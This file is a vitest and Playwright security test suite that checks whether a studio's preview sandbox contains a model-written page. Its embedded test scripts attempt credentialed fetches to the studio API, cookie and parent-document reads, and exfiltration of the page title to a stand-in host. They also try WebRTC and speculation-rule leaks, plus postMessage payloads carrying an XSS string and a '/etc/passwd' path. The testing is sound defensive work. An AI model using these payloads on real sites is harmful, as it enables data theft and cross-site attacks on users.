import { createSocket } from "node:dgram"
import { once } from "node:events"
import { createServer } from "node:http"
import type { AddressInfo } from "node:net"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { openPlace, type Place } from "./harness/place.ts"
import { inChromium } from "./harness/suite.ts"
import { until } from "./harness/until.ts"

/** Tries what it can, and writes down what came of each attempt: the message of the failure, or `REACHED`. */
const attempts = (studio: string, session: string) => `
const studio = ${JSON.stringify(studio)}
const reached = (value) => "REACHED " + String(value)
const attempts = {
  document: () => parent.document.body.innerHTML,
  storage: () => parent.localStorage.length,
  script: () => parent.eval("1"),
  frame: () => frameElement.ownerDocument.title,
  opener: () => { if (opener) return opener.document.title; throw new Error("no opener") },
  cookies: () => { document.cookie = "own=1"; if (/switchyard/.test(document.cookie)) return document.cookie; throw new Error("only its own") },
  top: () => { top.location = "https://elsewhere.invalid/"; return "led away" },
  window: () => { if (window.open(studio + "/settings")) return "opened"; throw new Error("no window") },
  fetch: async () => (await fetch(studio + "/v1/me", { credentials: "include" })).text(),
  blindFetch: async () => (await fetch(studio + "/v1/me", { credentials: "include", mode: "no-cors" })).type,
  run: async () => (await fetch(studio + "/v1/runs", { method: "POST", mode: "no-cors", credentials: "include", body: "{}" })).type,
  ownHost: async () => { const answer = await fetch("/v1/me"); if (answer.ok) return answer.text(); throw new Error(answer.status) },
  ownPost: async () => { const answer = await fetch("/workspace/session", { method: "POST" }); if (answer.ok) return "made"; throw new Error(answer.status) },
  worker: () => Object.getPrototypeOf(navigator).serviceWorker ? "there" : navigator.serviceWorker.register("/sw.js"),
  elsewhere: async () => (await fetch("https://elsewhere.invalid/?" + document.title, { mode: "no-cors" })).type,
  socket: () => new Promise((resolve, reject) => {
    const socket = new WebSocket(studio.replace("http", "ws") + "/ws/${session}")
    socket.onopen = () => resolve("open")
    socket.onerror = () => reject(new Error("no socket"))
  }),
  image: () => new Promise((resolve, reject) => {
    const image = new Image()
    image.onload = () => resolve("loaded")
    image.onerror = () => reject(new Error("no image"))
    image.src = studio + "/favicon.svg"
  }),
  inside: () => new Promise((resolve, reject) => {
    const frame = document.createElement("iframe")
    frame.onload = () => { try { resolve(frame.contentDocument.title) } catch (error) { reject(error) } }
    frame.src = studio + "/"
    document.body.append(frame)
    setTimeout(() => reject(new Error("nothing loaded")), 2000)
  }),
}
Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
  try { return [name, reached(await attempt())] } catch (error) { return [name, "refused: " + error.message] }
})).then((outcomes) => { document.querySelector("#outcomes").textContent = JSON.stringify(Object.fromEntries(outcomes)) })
`

/** Messages that would pass for the studio's, or break it, if they were believed. */
const FLOOD = `
for (const origin of ["*", ${JSON.stringify("STUDIO")}]) {
  parent.postMessage({ switchyard: "hello" }, origin)
  parent.postMessage({ switchyard: "preview", kind: "page", path: "javascript:broken" }, origin)
  parent.postMessage({ switchyard: "preview", kind: "page", path: "/" + "x".repeat(1e6) }, origin)
  parent.postMessage({ switchyard: "preview", kind: "run", text: "rm" }, origin)
  parent.postMessage({ switchyard: "preview", kind: "error", text: { toString: 1 } }, origin)
  parent.postMessage({ switchyard: "preview", kind: "error", text: "<img src=x onerror=window.broken=1>\\u202egnp", file: "file:///etc/passwd", line: "1" }, origin)
  parent.postMessage({ switchyard: "preview", kind: "error", text: "y".repeat(1e6), file: location.origin + "/%2e%2e/x", line: -1 }, origin)
  parent.postMessage("text", origin)
  parent.postMessage(null, origin)
}
for (let i = 0; i < 5000; i++) parent.postMessage({ switchyard: "preview", kind: "error", text: "flood " + i }, "*")
document.querySelector("#outcomes").textContent = "sent"
`

/** Servers of another site, what reached them, and a script that tries to without being asked. */
async function openElsewhere() {
  const [asked, packets]: [string[], Buffer[]] = [[], []]
  const server = createServer(({ url = "" }, response) => {
    if (url !== "/favicon.ico") asked.push(url)
    response.end("<p>Elsewhere</p>")
  }).listen(0, "127.0.0.1")
  const stun = createSocket("udp4", (packet) => packets.push(packet)).bind(0, "127.0.0.1")
  await Promise.all([once(server, "listening"), once(stun, "listening")])
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  const script = `
const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${stun.address().port}" }] })
peer.onicegatheringstatechange = () => { document.querySelector("#outcomes").textContent = peer.iceGatheringState }
peer.createDataChannel("plans")
peer.setLocalDescription()
const rules = document.createElement("script")
rules.type = "speculationrules"
rules.textContent = JSON.stringify({ prefetch: [{ urls: ["${url}/speculated"], eagerness: "immediate" }] })
document.head.append(rules)
`
  const close = () => {
    stun.close()
    server.closeAllConnections()
    server.close()
  }
  return { url, script, asked, packets, [Symbol.asyncDispose]: async () => close() }
}

const page = (script: string) =>
  `<!doctype html>\n<html lang="en"><head><title>Secret plans</title></head><body><pre id="outcomes"></pre><script>${script}</script></body></html>\n`

describe.each(["hosts", "opaque"])("in previews of the kind %s", (previews) => {
  inChromium("a page that a model wrote", ({ visit }) => {
    let place: Place
    beforeAll(async () => {
      place = await openPlace({ env: { PREVIEWS: previews } })
    })
    afterAll(() => place?.[Symbol.asyncDispose]())

    async function sessionWith(html: string): Promise<string> {
      const id = await place.session()
      await place.ask("PUT", "/workspace/file", { path: "index.html", content: html, workspace_id: id })
      await place.ask("PUT", "/workspace/file", { path: "sw.js", content: "self.x = 1", workspace_id: id })
      return id
    }

    it("reaches nothing of the studio, and nothing elsewhere", async () => {
      const id = await sessionWith("soon")
      const content = page(attempts(place.url, id))
      await place.ask("PUT", "/workspace/file", { path: "index.html", content, workspace_id: id })
      const seqBefore = (await place.ask("GET", `/api/v1/sessions/${id}`)).latest_seq
      await using visitor = await visit(`${place.url}/s/${id}/preview`)
      await visitor.context.addCookies([{ name: "switchyard", value: "a-login", url: place.url, sameSite: "Strict" }])
      const asked: Record<string, string>[] = []
      visitor.page.on("request", (request) => {
        if (new URL(request.url()).hostname.endsWith(".localhost")) asked.push(request.headers())
      })
      await visitor.page.reload()
      const outcomes = visitor.page.frameLocator("iframe[title=Preview]").locator("#outcomes")
      await until(() => outcomes.innerText()).toMatch(/^\{/)
      const told = JSON.parse(await outcomes.innerText()) as Record<string, string>
      expect(Object.keys(told)).toHaveLength(18)
      expect(Object.entries(told).filter(([, outcome]) => !outcome.startsWith("refused"))).toEqual([])
      expect(asked.length).toBeGreaterThan(0)
      // Neither a login nor where the page is shown.
      const given = asked.flatMap((headers) => Object.entries(headers))
      expect(given.filter(([name]) => /^(cookie|authorization)$/.test(name))).toEqual([])
      expect(given.filter(([, value]) => value.includes(place.url))).toEqual([])
      // The studio is still there, alone, and nothing was done in its name.
      expect(visitor.page.url()).toBe(`${place.url}/s/${id}/preview`)
      expect(visitor.context.pages()).toHaveLength(1)
      expect((await place.ask("GET", `/api/v1/sessions/${id}`)).latest_seq).toBe(seqBefore)
      visitor.faults.length = 0
    })

    it("reaches nothing elsewhere in a tab of its own, neither by WebRTC nor by speculation nor by leaving", async () => {
      await using elsewhere = await openElsewhere()
      const id = await sessionWith(page(elsewhere.script))
      const open = async (query: string) => {
        const { url } = await place.ask("GET", `/api/v1/sessions/${id}/preview${query}`)
        const visitor = await visit(url)
        visitor.faults.length = 0
        return visitor
      }
      await using blocked = await open("")
      // It has nobody to ask, so it is done at once.
      await until(() => blocked.page.locator("#outcomes").innerText()).toBe("complete")
      await blocked.page.evaluate((address) => void location.assign(address), `${elsewhere.url}/left`)
      await until(async () => blocked.page.url()).not.toContain(elsewhere.url)
      expect([elsewhere.packets, elsewhere.asked]).toEqual([[], []])
      // The same page does all of that where other sites are allowed.
      await using allowed = await open("?external=1")
      await until(async () => [elsewhere.packets.length > 0, elsewhere.asked]).toEqual([true, ["/speculated"]])
      await allowed.page.evaluate((address) => void location.assign(address), `${elsewhere.url}/left`)
      await until(async () => elsewhere.asked).toEqual(["/speculated", "/left"])
      blocked.faults.length = 0
      allowed.faults.length = 0
    })

    it("is heard as text of limited length and number, however it shouts", async () => {
      const id = await sessionWith(page(FLOOD.replace("STUDIO", place.url)))
      await using visitor = await visit(`${place.url}/s/${id}/preview`)
      const { page: studio } = visitor
      const pane = studio.getByRole("region", { name: "Preview" })
      const rows = pane.getByRole("list", { name: "Errors of the page" }).getByRole("listitem")
      await pane.getByRole("button", { name: /^Console/ }).click()
      await pane.getByText("The page reported more.").waitFor()
      expect(await rows.count()).toBe(51)
      const texts = await rows.allInnerTexts()
      expect(texts.every((text) => text.length < 1100)).toBe(true)
      expect(texts.join()).toContain("<img src=x onerror=window.broken=1>gnp")
      expect(texts.join()).not.toMatch(/passwd|\u202e|line -1/)
      expect(await studio.evaluate(() => "broken" in window)).toBe(false)
      expect(await pane.locator("img").count()).toBe(0)
      // The studio still works.
      await studio.getByRole("link", { name: "Files", exact: true }).click()
      await studio.locator('[data-agent-file-path="index.html"]').waitFor()
      visitor.faults.length = 0
    })

    it("is believed in its own frame only", async () => {
      const id = await sessionWith(page('document.querySelector("#outcomes").textContent = "here"'))
      await using visitor = await visit(`${place.url}/s/${id}/preview`)
      const { page: studio } = visitor
      const frame = studio.frameLocator("iframe[title=Preview]")
      await until(() => frame.locator("#outcomes").innerText()).toBe("here")
      const console = studio.getByRole("button", { name: /^Console/ })
      // From the studio's own window, and from a frame within the page.
      await studio.evaluate(() =>
        window.postMessage({ switchyard: "preview", kind: "error", text: "from the studio" }, "*"),
      )
      await frame.locator("body").evaluate((body) => {
        const inner = document.createElement("iframe")
        inner.srcdoc = `<script>parent.parent.postMessage({ switchyard: "preview", kind: "error", text: "from within" }, "*")</script>`
        body.append(inner)
      })
      await frame.locator("body").evaluate(() => {
        parent.postMessage({ switchyard: "preview", kind: "error", text: "from the page" }, "*")
      })
      await console.click()
      await studio.getByText("from the page").waitFor()
      expect(await console.getAttribute("aria-label")).toBe("Console, 1 reported")
    })
  })
})
